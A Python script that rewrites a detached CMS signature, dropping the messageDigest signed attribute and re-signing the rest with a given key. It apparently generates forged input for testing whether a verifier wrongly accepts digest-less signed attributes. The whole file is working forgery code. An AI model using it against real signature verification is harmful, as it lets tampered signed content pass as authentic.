#!/usr/bin/python3
"""Rewrites a detached CMS signature (DER) so that its signed attributes lack the message digest, and
signs the attributes that are left again with the signer's key, as a forger of a list would:
    strip_message_digest.py <signature.p7s> <key.pem> <out.p7s>
A client that takes signed attributes without a digest as covering the list would accept it."""
import subprocess
import sys

MESSAGE_DIGEST = bytes.fromhex("06092a864886f70d010904")


def parse(data):
    """The TLVs of data as [tag, children or bytes]."""
    items, at = [], 0
    while at < len(data):
        tag, length = data[at], data[at + 1]
        at += 2
        if length & 0x80:
            count = length & 0x7F
            length = int.from_bytes(data[at : at + count], "big")
            at += count
        body = data[at : at + length]
        at += length
        items.append([tag, parse(body) if tag & 0x20 else body])
    return items


def encode(items):
    out = b""
    for tag, body in items:
        content = encode(body) if isinstance(body, list) else body
        length = len(content)
        size = bytes([length]) if length < 0x80 else bytes([0x80 | (length.bit_length() + 7) // 8]) + \
            length.to_bytes((length.bit_length() + 7) // 8, "big")
        out += bytes([tag]) + size + content
    return out


def main():
    source, key, target = sys.argv[1:4]
    root = parse(open(source, "rb").read())
    signed_data = root[0][1][1][1][0][1]
    signer = signed_data[-1][1][0][1]  # the first SignerInfo of the last SET
    attributes = next(item for item in signer if item[0] == 0xA0)
    attributes[1] = [a for a in attributes[1] if not encode([a[1][0]]) == MESSAGE_DIGEST]
    signature = next(item for item in signer if item[0] == 0x04)
    # The signature covers the attributes as a SET OF.
    signed = subprocess.run(["openssl", "dgst", "-sha256", "-sign", key], input=encode([[0x31, attributes[1]]]),
                            capture_output=True, check=True).stdout
    signature[1] = signed
    open(target, "wb").write(encode(root))


if __name__ == "__main__":
    main()
